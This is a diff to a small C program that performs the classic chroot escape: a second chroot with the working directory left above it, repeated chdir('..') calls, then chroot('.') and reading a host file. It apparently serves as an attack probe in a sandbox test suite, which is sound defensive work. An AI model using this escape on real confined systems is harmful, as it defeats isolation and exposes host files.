@@ -1,6 +1,6 @@
 /* SPDX-License-Identifier: MIT
  *
- * Break out of a chroot: mkdir, chroot, and up.
+ * Break out of a chroot: chroot once more, and up.
  *
  * chroot(2) stops ".." at the new root, but only for a process that is below
  * it. A second chroot, with the working directory left above, is all it takes
@@ -10,7 +10,6 @@
  * filter and for want of CAP_SYS_CHROOT.
  * See chroot(2), NOTES.
  */
-#include <sys/stat.h>
 #include <unistd.h>
 
 #include "attack.h"
@@ -21,18 +20,14 @@ int main(int argc, char **argv)
 
     if (argc != 2)
         does_not_apply("usage: chroot_breakout FILE-OF-THE-HOST");
-    if (mkdir("/tmp/.out", 0700) < 0 && errno != EEXIST)
-        stopped("mkdir");
-    if (chroot("/tmp/.out") < 0) {
-        rmdir("/tmp/.out");
+    /* Into any directory below the working directory. */
+    if (chdir("/") < 0 || chroot("/tmp") < 0)
         stopped("chroot");
-    }
     for (int i = 0; i < 64; i++)
         if (chdir("..") < 0)
             stopped("chdir");
     if (chroot(".") < 0)
         stopped("chroot");
-    rmdir("/tmp/.out");
 
     FILE *file = fopen(argv[1], "r");
     if (file == NULL)
